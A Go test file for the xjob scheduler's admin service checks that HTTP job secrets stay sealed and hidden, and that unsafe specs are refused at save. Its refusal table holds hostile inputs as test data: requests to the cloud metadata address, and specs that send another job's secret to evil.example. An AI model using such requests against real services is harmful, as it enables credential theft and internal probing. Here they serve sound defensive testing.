package admin_test

import (
	"context"
	"strings"
	"testing"

	"github.com/xjobdev/xjob"
	"github.com/xjobdev/xjob/internal/admin"
	"github.com/xjobdev/xjob/internal/egress"
	"github.com/xjobdev/xjob/internal/target"
)

const targetSecret = "session-key-0123456789abcdef"

// targetEnv is setup with HTTP jobs enabled: the executors' egress rule
// of xjob local (loopback allowed) checked at save.
func targetEnv(t *testing.T) (*env, *admin.Service, *target.Sealer) {
	t.Helper()
	e := setup(t)
	sealer, err := target.NewSealer(targetSecret)
	if err != nil {
		t.Fatal(err)
	}
	policy := egress.Policy{AllowLoopback: true}
	svc, err := admin.New(admin.Config{Store: e.db, Queues: e.db, Executors: nopExecutors{}, Finisher: nopFinisher{}, Clock: e.clk,
		Targets: &admin.TargetConfig{Sealer: sealer, CheckURL: func(ctx context.Context, u string) error { return policy.Check(ctx, nil, u) }}})
	if err != nil {
		t.Fatal(err)
	}
	return e, svc, sealer
}

func (e *env) httpJob(source string) xjob.Job {
	j := e.spec(xjob.ScheduleCron, "0 0 * * * ?")
	j.Handler, j.GlueType, j.GlueSource = "", xjob.GlueHTTP, source
	return j
}

const secretSpec = `{"url":"https://hooks.example.com/run","method":"POST","secretHeaders":{"Authorization":"Bearer hunter2"}}`

// TestHTTPJobSecretsSealedAndNeverShown: a secret header is stored
// sealed, and no way out of the service shows it: not the job returned by
// create, get, list, update, start, stop or jobs-by-id, nor the export.
func TestHTTPJobSecretsSealedAndNeverShown(t *testing.T) {
	t.Parallel()
	e, svc, sealer := targetEnv(t)
	created, err := svc.CreateJob(e.ctx, e.httpJob(secretSpec))
	if err != nil {
		t.Fatal(err)
	}
	stored, err := e.db.JobGet(e.ctx, created.ID)
	if err != nil {
		t.Fatal(err)
	}
	spec, err := target.Parse(stored.GlueSource)
	if err != nil || !target.IsSealed(spec.SecretHeaders["Authorization"]) {
		t.Fatalf("stored spec = %s, %v", stored.GlueSource, err)
	}
	if pt, _ := sealer.OpenAll(spec); pt["Authorization"] != "Bearer hunter2" {
		t.Fatalf("stored secret opens to %q", pt["Authorization"])
	}
	shown := map[string]string{"create": created.GlueSource}
	got, _ := svc.GetJob(e.ctx, created.ID)
	shown["get"] = got.GlueSource
	page, _ := svc.ListJobs(e.ctx, admin.ListJobsParams{})
	shown["list"] = page.Jobs[0].GlueSource
	byID, _ := svc.JobsByID(e.ctx, []int64{created.ID})
	shown["jobsById"] = byID[created.ID].GlueSource
	got.Description = "edited"
	updated, err := svc.UpdateJob(e.ctx, admin.UpdateJobParams{Job: got})
	if err != nil {
		t.Fatalf("update with the shown spec: %v", err)
	}
	shown["update"] = updated.GlueSource
	started, _ := svc.StartJob(e.ctx, created.ID)
	shown["start"] = started.GlueSource
	stopped, _ := svc.StopJob(e.ctx, created.ID)
	shown["stop"] = stopped.GlueSource
	m, _ := svc.Export(e.ctx)
	shown["export"] = m.Jobs[0].GlueSource
	for where, src := range shown {
		if strings.Contains(src, "hunter2") || strings.Contains(src, "enc:v1:") || !strings.Contains(src, `"Authorization":"`+target.Ref(spec.SecretHeaders["Authorization"])+`"`) {
			t.Errorf("%s shows %s", where, src)
		}
	}
	again, _ := e.db.JobGet(e.ctx, created.ID)
	if again.GlueSource != stored.GlueSource || again.GlueUpdatedAt != stored.GlueUpdatedAt {
		t.Fatalf("saving the shown spec back changed the stored one:\n%s\n%s", again.GlueSource, stored.GlueSource)
	}
	if vs, _ := svc.GlueVersions(e.ctx, created.ID); len(vs) != 0 {
		t.Fatalf("an HTTP job's spec went into the GLUE history: %+v", vs)
	}
	if _, err := svc.SaveGlue(e.ctx, got, secretSpec, "r"); len(problemFields(t, err)) != 1 || problemFields(t, err)[0] != "glueType" {
		t.Fatalf("SaveGlue of an HTTP job = %v", err)
	}

	// Export, then apply the export: nothing changes, the secret is kept.
	res, err := svc.Apply(e.ctx, admin.ApplyParams{Manifest: m})
	if err != nil || len(res.Plan) != 0 {
		t.Fatalf("applying the export = %+v, %v", res, err)
	}
	after, _ := e.db.JobGet(e.ctx, created.ID)
	if after.GlueSource != stored.GlueSource {
		t.Fatalf("apply of the export changed the stored spec")
	}
}

func TestHTTPJobRefusedAtSave(t *testing.T) {
	t.Parallel()
	e, svc, sealer := targetEnv(t)
	other, _ := svc.CreateJob(e.ctx, e.httpJob(secretSpec))
	otherSpec, _ := e.db.JobGet(e.ctx, other.ID)
	parsed, _ := target.Parse(otherSpec.GlueSource)
	foreignRef := target.Ref(parsed.SecretHeaders["Authorization"])
	tests := []struct {
		name, source, field string
	}{
		{"not a spec", `not json`, "glueSource"},
		{"no url", `{"method":"GET"}`, "glueSource.url"},
		{"malformed url", `{"url":"https//x"}`, "glueSource.url"},
		{"metadata", `{"url":"http://169.254.169.254/"}`, "glueSource.url"},
		{"metadata, IPv6", `{"url":"http://[fd00:ec2::254]/"}`, "glueSource.url"},
		{"template", `{"url":"https://h/{{nope}}"}`, "glueSource.url"},
		{"body template", `{"url":"https://h/","method":"PUT","body":"{{param|yaml}}"}`, "glueSource.body"},
		{"another job's secret", `{"url":"https://evil.example/","secretHeaders":{"Authorization":"` + foreignRef + `"}}`, "glueSource.secretHeaders.Authorization"},
		{"a pasted ciphertext", `{"url":"https://evil.example/","secretHeaders":{"Authorization":"` + sealer.Seal("Authorization", "x") + `"}}`, "glueSource.secretHeaders.Authorization"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			n := e.jobCount()
			_, err := svc.CreateJob(e.ctx, e.httpJob(tc.source))
			if f := problemFields(t, err); len(f) == 0 || f[0] != tc.field {
				t.Fatalf("CreateJob = %v, want a problem on %s", err, tc.field)
			}
			if e.jobCount() != n {
				t.Fatal("a refused job was written")
			}
			// The same on update, the stored job unchanged.
			j := other
			j.GlueSource = tc.source
			if _, err := svc.UpdateJob(e.ctx, admin.UpdateJobParams{Job: j}); len(problemFields(t, err)) == 0 {
				t.Fatalf("UpdateJob = %v", err)
			}
			if now, _ := e.db.JobGet(e.ctx, other.ID); now.GlueSource != otherSpec.GlueSource {
				t.Fatal("a refused update was written")
			}
			// And in a manifest, named by the job's index.
			m := xjob.Manifest{Jobs: []xjob.JobSpec{{Name: "hook", Group: "xjob-demo", Description: "d", Author: "a",
				ScheduleType: xjob.ScheduleCron, ScheduleConf: "0 0 * * * ?", GlueType: xjob.GlueHTTP, GlueSource: tc.source}}}
			if _, err := svc.Apply(e.ctx, admin.ApplyParams{Manifest: m}); len(problemFields(t, err)) == 0 ||
				problemFields(t, err)[0] != "jobs[0]."+tc.field {
				t.Fatalf("Apply = %v", err)
			}
		})
	}
}

// TestHTTPJobsOffWithoutTargets: a deployment that does not run HTTP
// jobs (no TargetConfig: the AWS functions today) refuses them at save.
func TestHTTPJobsOffWithoutTargets(t *testing.T) {
	t.Parallel()
	e := setup(t)
	_, err := e.svc.CreateJob(e.ctx, e.httpJob(`{"url":"https://hooks.example.com/"}`))
	if f := problemFields(t, err); len(f) != 1 || f[0] != "glueType" || !strings.Contains(err.Error(), "not available on this deployment") {
		t.Fatalf("CreateJob = %v", err)
	}
}
